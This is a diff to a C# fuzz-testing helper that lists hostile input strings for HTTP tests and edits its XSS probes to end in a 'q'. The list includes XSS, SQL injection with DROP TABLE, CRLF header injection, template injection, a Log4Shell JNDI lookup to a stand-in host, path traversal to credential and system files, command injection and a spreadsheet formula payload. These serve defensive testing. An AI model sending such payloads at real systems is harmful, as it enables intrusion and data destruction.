@@ -5,7 +5,7 @@ namespace Hay.Seeded.Tests.Http;
 /// <summary>Values that break those who trust what they are sent. Some carry a marker that no page may say back unescaped.</summary>
 internal static class FuzzPoison
 {
-    /// <summary>Followed by one of &lt; " ' wherever it was not escaped.</summary>
+    /// <summary>Followed by one of &lt; " ' and a q wherever it was not escaped.</summary>
     public const string Mark = "zq7z";
     /// <summary>Somewhere that no link of ours leads.</summary>
     public const string Elsewhere = "elsewhere.zq.example";
@@ -13,7 +13,7 @@ internal static class FuzzPoison
     private static readonly ImmutableArray<string> Plain =
     [
         "", " ", "\0", "a\0b", "\u202E\u2066live\u2069", "\uFEFF", "\uFFFF", "\u0000\u0001\u001F\u007F", "e\u0301\u0302\u0303\u0304", "İıßﬃ", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ﷺﷺﷺ", "\r\nSet-Cookie: zq=1\r\n\r\n<html>", "%0d%0aSet-Cookie:zq=1",
-        $"{Mark}<{Mark}\"{Mark}'>", $"\"><script>{Mark}<script>", $"' onmouseover='{Mark}\"", $"</script><script>{Mark}<", $"</title>{Mark}<b>", $"]]>{Mark}<", $"javascript:{Mark}'", $"data:text/html,{Mark}<b>",
+        $"{Mark}<q{Mark}\"q{Mark}'q>", $"\"><script>{Mark}<q", $"' onmouseover='{Mark}\"q", $"</script><script>{Mark}<q", $"</title>{Mark}<q>", $"]]>{Mark}<q", $"javascript:{Mark}'q", $"data:text/html,{Mark}<q>",
         "' OR '1'='1", "'; DROP TABLE grain_state; --", "\" OR \"\"=\"", "1) UNION SELECT 1 --", "%", "_", "*", "(", "\\", "${7*7}", "{{7*7}}", "@(7*7)", "<%=7*7%>", "#{7*7}", "${jndi:ldap://elsewhere.zq.example/a}",
         "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd", "file:///etc/passwd", "C:\\", "\\\\host\\share", "con", "nul.txt", ".", "..", "~", "|ls", "$(id)", "`id`", "=cmd|' /C calc'!A0",
         "0", "-0", "-1", "1", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "99999999999999999999999", "1e308", "1e309", "-1e400", "NaN", "Infinity", "0x10", "1,5", "1.5", "٣", "½", "+1", "00000000000001", "0.0000000000000000000001",
